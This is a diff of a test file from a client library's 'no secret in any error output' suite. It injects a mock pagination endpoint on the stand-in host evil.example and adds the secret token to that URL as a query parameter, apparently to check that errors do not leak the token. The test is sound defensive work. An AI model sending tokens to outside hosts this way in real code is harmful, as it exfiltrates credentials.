@@ -100,7 +100,7 @@ describe('no secret in any error output', () => {
     errors.push(await failure(client.run(exploreMovies())))
     service.inject(0, {
       kind: 'next',
-      next: { endpoint: 'https://evil.example/graph/explore', method: 'POST', body: {} },
+      next: { endpoint: `https://evil.example/graph/explore?token=${token}`, method: 'POST', body: {} },
     })
     errors.push(await failure(client.collect(exploreMovies(), { maxItems: 100 })))
     errors.push(await failure(client.run(exploreMovies(), { signal: AbortSignal.abort(new Error('stop')) })))
